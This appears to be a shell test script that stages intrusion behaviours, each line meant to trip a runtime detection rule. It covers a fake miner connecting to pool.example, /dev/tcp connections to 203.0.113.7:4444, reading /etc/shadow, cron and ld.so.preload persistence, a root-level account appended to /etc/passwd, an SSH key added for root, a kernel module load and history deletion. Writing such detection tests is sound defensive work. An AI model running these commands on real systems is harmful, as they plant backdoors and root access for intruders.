# The deeds. Run by a copy of a shell that is called nginx; each line is one thing a rule may look for.
/bin/sh -c 'id; uname -a' > /dev/null
cp /bin/true /tmp/xmrig
chmod 755 /tmp/xmrig
chown 33:33 /tmp/xmrig
/tmp/xmrig -o stratum+tcp://pool.example:3333
getent ahostsv4 pool.example > /dev/null
bash -c 'exec 3<>/dev/tcp/127.0.0.1/8080'
bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444'
cat /etc/shadow > /dev/null
touch /etc/cron.d/backup
echo '* * * * * root /tmp/xmrig' > /etc/cron.d/backup
echo 'intruder:x:0:0::/root:/bin/sh' >> /etc/passwd
echo 'ssh-ed25519 AAAAexample intruder@example' >> /root/.ssh/authorized_keys
mkdir /tmp/.hidden
ln -s /etc/shadow /tmp/.hidden/link
touch /etc/.preload
mv /etc/.preload /etc/ld.so.preload
rm /etc/ld.so.preload
cp /bin/true /dev/shm/run
/dev/shm/run
/opt/fileless memfd /bin/true fileless
/opt/insmod /tmp/rootkit.ko
LD_PRELOAD=/tmp/absent.so /bin/true 2> /dev/null
rm /root/.bash_history
true
